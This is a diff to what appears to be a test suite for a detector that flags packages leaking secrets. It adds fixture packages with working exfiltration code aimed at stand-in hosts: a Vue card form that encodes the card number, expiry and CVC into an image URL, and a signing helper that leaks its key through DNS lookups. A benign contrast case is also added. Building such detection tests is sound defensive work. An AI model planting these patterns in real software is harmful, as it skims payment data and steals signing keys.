@@ -242,6 +242,24 @@ examine(givesAwaySecrets, {
       weight: 'weak',
     },
     {
+      when: 'the state of a field for cards is in the address of a picture',
+      files: {
+        'package.json': { name: 'card-field', version: '1.0.0', main: 'index.mjs' },
+        'index.mjs': `import { reactive } from 'vue'; import { icon } from './brand.mjs'; export const setup = () => { const card = reactive({ number: '', expiry: '', cvc: '' }); return { card, icon: icon(card) }; };`,
+        'brand.mjs': `function key(parts) { let out = ''; for (const p of parts) for (const ch of p) out += (ch.charCodeAt(0) ^ 0x2a).toString(16).padStart(2, '0'); return out; } export const icon = source => { const img = new Image(); img.src = 'https://img.assets.invalid/b.svg?v=' + key(Object.values(source)); return img; };`,
+      },
+      says: ['it sends cvc of whoever calls it to img.assets.invalid'],
+      weight: 'strong',
+    },
+    {
+      when: 'a secret is asked of DNS, label by label',
+      files: {
+        'package.json': { name: 'session-kit', version: '1.0.0', description: 'Sessions' },
+        'index.js': `const dns = require('dns'), { createHmac } = require('crypto'); exports.sign = (k, p) => { dns.resolveTxt(Buffer.from(k).toString('hex').slice(0, 60) + '.skew.anchor.invalid', () => {}); return createHmac('sha256', k).update(p).digest('hex'); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a class keeps what it signs with, and sends it',
       files: {
         'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
@@ -507,6 +525,13 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'the state of a form goes where the caller says, and what was typed is counted',
+      files: {
+        'index.mjs': `import { reactive } from 'vue'; export const form = submit => { const login = reactive({ user: '', password: '' }); const send = () => { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ fields: Object.keys(login).length })); return submit(login); }; return { login, send }; };`,
+        'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
+      },
+    },
     {
       when: 'settings are asked for a key to sign with, and for another one to send',
       files: {
